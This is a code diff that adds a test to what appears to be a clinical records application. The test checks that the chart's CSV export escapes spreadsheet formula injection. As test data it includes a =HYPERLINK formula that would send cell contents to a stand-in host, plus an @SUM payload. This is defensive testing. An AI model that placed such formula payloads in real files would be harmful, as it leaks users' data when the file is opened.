@@ -194,3 +194,18 @@ def test_a_medication_atc_code_exports_in_the_who_atc_system(db, nurse, patient)
     get_fhir_model_class("MedicationStatement").model_validate(resource)
     assert resource["medicationCodeableConcept"]["coding"] == [
         {"system": "http://www.whocc.no/atc", "code": "N06AB06"}]
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(client, db, write, nurse, patient):
+    """A note or a summary line starting with = + - @ would run as a formula in the
+    spreadsheet of whoever opens the export (a link fetched, a command run): it is written as
+    text, behind an apostrophe; the note's own words are kept."""
+    write(form_id="recordtest.note", payload={"text": '=HYPERLINK("http://x.example/?"&A1)'})
+    add_summary_item(db, person_id=patient.id, kind="problem", label="@SUM(A1:A9)", author=nurse)
+    db.commit()
+    client.post("/login", data={"username": nurse.username, "password": "correct horse battery staple"})
+    rows = list(csv.reader(io.StringIO(client.get(f"/people/{patient.id}/chart/export.csv")
+                                       .get_data().decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1)" in cells and "'@SUM(A1:A9)" in cells
+    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
